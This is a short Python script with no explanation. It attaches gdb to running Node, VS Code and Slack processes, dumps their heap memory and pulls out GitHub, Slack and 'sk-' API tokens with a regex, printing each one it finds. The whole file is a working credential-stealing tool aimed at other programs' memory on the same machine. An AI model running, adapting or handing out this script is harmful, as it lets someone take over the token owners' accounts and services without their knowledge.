import subprocess
import sys
import tempfile

GDB = """
set pagination off
python
import gdb, re
inf = gdb.selected_inferior()
for l in open('/proc/%d/maps' % inf.pid):
    a = l.split()
    if 'rw' in a[1] and '[heap]' in l:
        s, e = (int(x, 16) for x in a[0].split('-'))
        m = inf.read_memory(s, e - s).tobytes()
        for k in re.findall(rb'(?:gh[pousr]_|xox[bp]-|sk-)[\\w-]{20,}', m):
            print(k.decode())
end
detach
quit
"""
with tempfile.NamedTemporaryFile("w", suffix=".gdb", delete=False) as f:
    f.write(GDB)
for name in sys.argv[1:] or ["node", "code", "slack"]:
    for pid in subprocess.run(["pgrep", "-f", name], capture_output=True, text=True).stdout.split():
        subprocess.run(["gdb", "-q", "-batch", "-p", pid, "-x", f.name])
